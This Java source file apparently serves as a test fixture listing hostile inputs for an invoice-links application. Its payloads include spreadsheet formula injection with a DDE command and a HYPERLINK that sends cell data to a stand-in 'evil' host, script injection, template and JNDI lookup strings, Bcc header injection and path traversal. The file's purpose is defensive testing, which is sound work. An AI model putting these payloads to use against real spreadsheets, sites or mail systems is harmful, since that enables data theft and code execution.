package dev.invoicelinks.hostile;

import java.util.LinkedHashMap;
import java.util.Map;

/** What a cell of a file may hold to be more than a text: where a spreadsheet, a page, a template, a header, a log or a file system reads it. */
public final class HostileText {

    /** Stands in every one of them, so that what became of it can be found. */
    public static final String MARK = "Zq7";

    private HostileText() {}

    /** The texts by what they try; no NUL, with which a file is refused whole. */
    public static Map<String, String> all() {
        Map<String, String> texts = new LinkedHashMap<>();
        put(
                texts,
                "formula",
                "=Zq7+cmd|' /C calc'!A0",
                "+Zq7()",
                "-Zq7()",
                "@SUM(Zq7)",
                "\t=Zq7",
                "\r=Zq7",
                "\n=Zq7",
                "＝Zq7",
                "=HYPERLINK(\"http://evil/?\"&A1,\"Zq7\")");
        put(
                texts,
                "markup",
                "<script>Zq7()</script>",
                "<img src=x onerror=Zq7()>",
                "\"><b id='Zq7'>",
                "Zq7' onmouseover='x",
                "</title><svg onload=Zq7()>",
                "<!--Zq7",
                "&lt;Zq7&gt;&#0;",
                "<a href=\"javascript:Zq7\">x</a>");
        put(
                texts,
                "template",
                "{{link}} Zq7",
                "{{{merchant}}}Zq7",
                "{{#link}}Zq7{{/link}}",
                "{{=<% %>=}}Zq7",
                "${7*7}Zq7",
                "#{7*7}Zq7",
                "%s%n%dZq7",
                "${jndi:ldap://127.0.0.1:1/Zq7}",
                "$1\\1Zq7",
                "{}Zq7{0}");
        put(
                texts,
                "header",
                "Zq7\r\nBcc: evil@example.com",
                "Zq7\nBcc: evil@example.com",
                "Zq7\rBcc: evil@example.com",
                "Zq7\u0085Bcc: evil@example.com",
                "Zq7\u2028Bcc: evil@example.com",
                "Zq7\u2029Bcc: evil@example.com",
                "Zq7\u000BBcc: evil@example.com",
                "Zq7\fBcc: evil@example.com",
                "Zq7\r\n\r\n.\r\nQUIT");
        put(
                texts,
                "path",
                "../../../../tmp/Zq7",
                "/tmp/Zq7",
                "..\\..\\Zq7",
                "C:\\Zq7",
                "CON.Zq7",
                "~/Zq7",
                ".Zq7",
                "file:///Zq7");
        put(texts, "direction", "Zq7\u202Egnp.exe", "\u2066Zq7\u2069", "\u200FZq7", "Zq7\uFEFF", "Zq7\u200B");
        put(
                texts,
                "length",
                "Zq7" + "x".repeat(297),
                "Zq7" + "ก".repeat(297),
                "Zq7" + "😀".repeat(297),
                "Zq7" + "x".repeat(20_000));
        return texts;
    }

    private static void put(Map<String, String> texts, String kind, String... some) {
        for (int place = 0; place < some.length; place++) {
            texts.put(kind + " " + (place + 1), some[place]);
        }
    }
}
